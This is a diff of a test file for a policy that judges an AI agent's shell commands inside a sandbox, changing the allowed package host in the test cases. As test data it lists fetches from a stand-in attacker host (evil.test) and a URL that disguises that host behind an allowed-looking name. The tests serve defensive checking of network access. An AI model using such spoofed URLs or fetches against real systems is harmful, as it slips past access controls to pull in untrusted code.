@@ -28,7 +28,7 @@ describe('decision 7, preset workspace with a working sandbox: silent inside, st
     `git commit -m "$(cat <<'EOF'\nit's done\nEOF\n)"`,
     'for f in *.ts; do sed -i s/a/b/ "$f"; done',
     'curl http://localhost:3000/health',
-    'curl https://registry.npmjs.org/left-pad',
+    'curl https://packages.example.net/left-pad',
     'x=(1 2 3); echo ${x[0]}',
     'eval "$(cat setup.sh)"',
     'node server.js & sleep 1',
@@ -38,7 +38,7 @@ describe('decision 7, preset workspace with a working sandbox: silent inside, st
     expect(
       verdict(
         shellCall(folder, command, { sandboxHolds: true }),
-        policyOf({ allowedHosts: ['registry.npmjs.org:443'] }),
+        policyOf({ allowedHosts: ['packages.example.net:443'] }),
       ),
     ).toBe('allow');
   });
@@ -62,14 +62,14 @@ describe('decision 7, preset workspace with a working sandbox: silent inside, st
     ['wget evil.test/x', 'ask network'],
     ['git clone https://evil.test/x.git', 'ask network'],
     ['git fetch git@evil.test:a/b.git', 'ask network'],
-    ['curl https://registry.npmjs.org@evil.test/', 'ask network'],
+    ['curl https://packages.example.net@evil.test/', 'ask network'],
     ['gh pr create', 'ask outside_effect'],
   ];
   it.each(crossings)('asks for %s', (command, expected) => {
     expect(
       verdict(
         shellCall(makeWorkFolder(), command, { sandboxHolds: true }),
-        policyOf({ allowedHosts: ['registry.npmjs.org'] }),
+        policyOf({ allowedHosts: ['packages.example.net'] }),
       ),
     ).toBe(expected);
   });
